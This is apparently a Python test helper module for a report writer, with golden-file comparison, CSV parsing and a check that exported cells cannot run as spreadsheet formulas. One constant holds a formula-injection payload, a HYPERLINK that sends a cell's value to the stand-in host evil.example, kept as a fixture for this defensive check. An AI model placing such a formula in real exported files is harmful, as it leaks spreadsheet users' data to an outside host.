"""Helpers of the report writer tests: golden files and CSV checks."""

from __future__ import annotations

import csv
import io
import os
from pathlib import Path

import pytest
from _ci import under_ci

GOLDEN = Path(__file__).parent / "data" / "reports"
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1, "click")'
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def same_as_golden(name: str, text: str) -> None:
    """``text`` equals the golden file ``name`` (written instead when regenerating). In a CSV
    file, numbers are compared to 1e-12: sums over items in another order differ in the last bit.
    Regenerating under CI is refused: there it would turn every change of content into a pass."""
    path = GOLDEN / name
    if os.environ.get("DIFFGEN_REGEN_GOLDEN"):
        if under_ci():
            pytest.fail("DIFFGEN_REGEN_GOLDEN is set under CI: golden files are regenerated only by hand, for an intended change")
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(text.encode("utf-8"))
    golden = path.read_bytes().decode("utf-8")
    if name.endswith(".csv"):
        assert _cells(text) == _cells(golden), f"{name} differs from its golden file"
    else:
        assert text == golden, f"{name} differs from its golden file"


def _cells(text: str) -> list[list[object]]:
    """CSV cells, numbers as pytest.approx (nan equal to nan)."""
    rows = list(csv.reader(io.StringIO(text, newline="")))
    return [[_number(c) for c in row] for row in rows]


def _number(cell: str) -> object:
    try:
        return pytest.approx(float(cell), rel=1e-12, abs=1e-15, nan_ok=True)
    except ValueError:
        return cell


def csv_cells(path: Path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as f:
        return list(csv.reader(f))


def assert_no_formula(path: Path) -> None:
    """No text cell of the CSV file can run as a formula (numbers like -0.5 are numbers)."""
    for row in csv_cells(path):
        for cell in row:
            try:
                float(cell)
            except ValueError:
                assert not cell.startswith(FORMULA_START), f"{path.name}: {cell!r}"


def golden_csv(name: str) -> list[dict[str, str]]:
    """The golden CSV file ``name`` as rows by header, text cells unescaped (a leading ' that
    stops a formula removed): for the independent checks of its values."""
    with open(GOLDEN / name, newline="", encoding="utf-8") as f:
        return [{k: v[1:] if v.startswith("'") else v for k, v in row.items()} for row in csv.DictReader(f)]


def markdown_tables(text: str) -> list[list[dict[str, str]]]:
    """Every pipe table of a Markdown text, as rows by header (the separator row dropped)."""
    tables: list[list[dict[str, str]]] = []
    block: list[list[str]] = []
    for line in [*text.splitlines(), ""]:
        if line.startswith("|"):
            block.append([c.strip() for c in line.strip().strip("|").split("|")])
            continue
        if block:
            head, rows = block[0], block[2:]
            tables.append([dict(zip(head, row, strict=True)) for row in rows])
            block = []
    return tables
